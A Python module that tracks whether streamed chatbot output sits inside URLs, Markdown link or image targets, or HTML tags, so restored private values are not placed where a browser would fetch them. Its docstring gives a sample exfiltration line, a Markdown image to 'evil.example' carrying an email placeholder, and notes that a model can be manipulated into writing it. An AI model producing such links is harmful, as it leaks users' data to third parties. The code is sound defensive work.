"""Where a browser would fetch or follow what stands in a text: URLs, link and image targets, HTML tags.

A model can be talked into writing `![x](https://evil.example/?q=[EMAIL_1])`: a value restored there would leave with
the first look at the page. `Places` follows a text as it is written and says whether the next character stands in such
a place. It errs on the side of saying yes, and goes by what has been written only, so cutting the text changes
nothing.

Rules: CommonMark 0.31.2 (links, images, reference definitions, autolinks), GitHub Flavored Markdown (extended
autolinks run to white space or `<`), HTML Living Standard, 13.2.5 (a tag runs from `<` and a letter, `/`, `!` or `?`
to `>`; a script or a style to its end tag).

A text may hold JSON, which the bot reads before it shows what its strings say. So once a backslash stands in a text, it
is followed a second time with its JSON escapes undone (RFC 8259, 7), and a place counts that is one in either reading.
"""

from __future__ import annotations

import re
from copy import deepcopy

_URLS = re.compile(r"(?P<url>//|www\.)", re.IGNORECASE)
_TARGETS = re.compile(r"(?P<target>\]\()")
_DEFINITIONS = re.compile(r"(?P<definition>\]:)")
_URL_END = re.compile(r"[ \t\n\v\f\r<]")
_TARGET_STEP = re.compile(r"\\[^\n]|[()]|\n[ \t]*\n")
_TARGET_CUT = re.compile(r"(?:\\|\n[ \t]*)\Z")
_TAG_STEP = re.compile(r"<[A-Za-z/!?]?|[>\"'=\n]|[^<>\"'=\s]+")
_LONGEST_OPENER = 4
_RAW = re.compile("<(/?)(script|style)", re.IGNORECASE)
_LONGEST_RAW = 8
_ESCAPE = re.compile(r"\\(?:u([0-9a-fA-F]{4}))?")
_CUT_ESCAPE = re.compile(r"\\(?:u[0-9a-fA-F]{0,3})?\Z")
_LONGEST_CUT = 5


class Places:
    """Follows one text, as it stands and as it reads without the escapes of JSON.

    Attributes:
        before: the last character of the text.
    """

    def __init__(self) -> None:
        self.before = ""
        self._written = _Reading()
        self._undone: _Reading | None = None  # until there is a backslash, both read the same
        self._carry = ""

    @property
    def inside(self) -> str:
        """What the text ends in: "url", "target", "definition", "tag", or "" for plain text."""
        return self._written.inside or (self._undone.inside if self._undone else "")

    @property
    def tag(self) -> str:
        """ "tag" if the text ends in one, in a script or in a style, whatever else it ends in; else ""."""
        return self._written.tag or (self._undone.tag if self._undone else "")

    def feed(self, text: str) -> None:
        """Take the next piece of the text."""
        if self._undone is None and "\\" in text:
            self._undone = deepcopy(self._written)
        if self._undone is not None:
            buffer = self._carry + text
            cut = _CUT_ESCAPE.search(buffer, max(0, len(buffer) - _LONGEST_CUT))
            self._carry = cut[0] if cut else ""
            self._undone.feed(_ESCAPE.sub(_meant, buffer[: len(buffer) - len(self._carry)]))
        self._written.feed(text)
        self.before = text[-1:] or self.before


def _meant(escape: re.Match[str]) -> str:
    """What an escape stands for; nothing for a backslash, however many of them JSON in JSON puts ahead of a sign."""
    return chr(int(escape[1], 16)) if escape[1] else ""


class _Reading:
    """Follows one reading. URLs, targets, definitions and tags are followed apart: one goes on where another ended."""

    def __init__(self) -> None:
        self._urls = _Links(_URLS, "")
        self._targets = _Links(_TARGETS, "]")
        self._definitions = _Links(_DEFINITIONS, "]")
        self._tags = _Tags()

    @property
    def inside(self) -> str:
        """What the text ends in: "url", "target", "definition", "tag", or "" for plain text."""
        return self._urls.inside or self._targets.inside or self._definitions.inside or self.tag

    @property
    def tag(self) -> str:
        """ "tag" if the text ends in one, in a script or in a style, whatever else it ends in; else ""."""
        return "tag" if self._tags.open else ""

    def feed(self, text: str) -> None:
        """Take the next piece of the text."""
        self._urls.feed(text)
        self._targets.feed(text)
        self._definitions.feed(text)
        self._tags.feed(text)


class _Tags:
    """Follows HTML tags from every place where one could begin, and scripts and styles up to their end tags.

    Whether a `<` begins a tag depends on what stands before it, and Markdown and HTML do not agree on that. So every
    one begins a tag here, beside those that are open already; the tags that are open differ only in how their
    attributes stand. One is taken to stay open with a line break in it, or with the end of a comment that Markdown may
    see round its beginning: Markdown then writes its `>` as `&gt;`.
    """

    def __init__(self) -> None:
        self._states: frozenset[str] = frozenset()
        self._broken = False
        self._declared = False
        self._tail = ""
        self._raw = {"script": 0, "style": 0}
        self._carry = ""
        self._raw_carry = ""

    @property
    def open(self) -> bool:
        return self._broken or bool(self._states) or any(self._raw.values())

    def feed(self, text: str) -> None:
        buffer = self._carry + text
        if self._broken:
            return
        self._carry = "<" if buffer.endswith("<") else ""
        at = 0
        end = len(buffer) - len(self._carry)
        while at < end:
            if not self._states:
                at = buffer.find("<", at, end)
                if at < 0:
                    break
            step = _TAG_STEP.search(buffer, at, end)
            if not step:
                break
            at = step.end()
            if step[0] == "\n":
                self._broken = True
                return
            self._states = _after(self._states, step[0])
            self._declared = self._declared or step[0] == "<!"
            if step[0] == ">" and self._ends_comment(buffer, at) and self._states:
                self._broken = True
                return
        self._tail = (self._tail + buffer[max(0, end - 2) : end])[-2:]
        self._feed_raw(text)

    def _ends_comment(self, buffer: str, at: int) -> bool:
        """Whether the `>` ahead of `at` may end a comment."""
        before = buffer[at - 3 : at - 1] if at > 2 else (self._tail + buffer[: at - 1])[-2:]
        return self._declared and before == "--"

    def _feed_raw(self, text: str) -> None:
        """Scripts and styles run until their own end tag, whatever stands in them and round them."""
        buffer = self._raw_carry + text
        at = 0
        for match in _RAW.finditer(buffer):
            name, at = match[2].lower(), match.end()
            self._raw[name] = max(0, self._raw[name] - 1) if match[1] else self._raw[name] + 1
        self._raw_carry = buffer[max(at, len(buffer) - _LONGEST_RAW + 1) :]


def _after(states: frozenset[str], token: str) -> frozenset[str]:
    """How open tags stand after a token: in a quoted value (its quote), after an equals sign ("="), or neither ("")."""
    found = set()
    for state in states:
        if state in ('"', "'"):
            found.add("" if token == state else state)
        elif token == "=" or (state == "=" and token in ('"', "'")):
            found.add(token)
        elif token != ">":
            found.add("")
    if token[0] == "<" and len(token) == 2:
        found.add("")
    return frozenset(found)


class _Links:
    """Follows what one expression opens: URLs, targets of links and images, or reference definitions."""

    def __init__(self, openers: re.Pattern[str], sign: str) -> None:
        self.inside = ""
        self._openers = openers
        self._sign = sign  # no opener is without
        self._carry = ""
        self._depth = 0

    def feed(self, text: str) -> None:
        buffer = self._carry + text
        if not self.inside and self._sign not in buffer:
            self._carry = ""
            return
        at = 0
        while at < len(buffer):
            if self.inside:
                at = getattr(self, f"_{self.inside}")(buffer, at)
            else:
                opener = self._openers.search(buffer, at)
                if not opener:
                    self._carry = buffer[max(at, len(buffer) - _LONGEST_OPENER + 1) :]
                    return
                self.inside, at = str(opener.lastgroup), opener.end()
            if at < 0:
                return
        self._carry = ""

    def _leave(self) -> None:
        self.inside, self._depth = "", 0

    def _stay(self, carry: str = "") -> int:
        self._carry = carry
        return -1

    def _url(self, buffer: str, at: int) -> int:
        end = _URL_END.search(buffer, at)
        if not end:
            return self._stay()
        self._leave()
        return end.start()

    def _definition(self, buffer: str, at: int) -> int:
        end = buffer.find("\n", at)
        if end < 0:
            return self._stay()
        self._leave()
        return end

    def _target(self, buffer: str, at: int) -> int:
        for step in _TARGET_STEP.finditer(buffer, at):
            if step[0] == "(":
                self._depth += 1
            elif step[0] == ")":
                self._depth -= 1
            at = step.end()
            if self._depth < 0 or step[0][0] == "\n":
                self._leave()
                return at
        cut = _TARGET_CUT.search(buffer, at)
        return self._stay(cut[0] if cut else "")
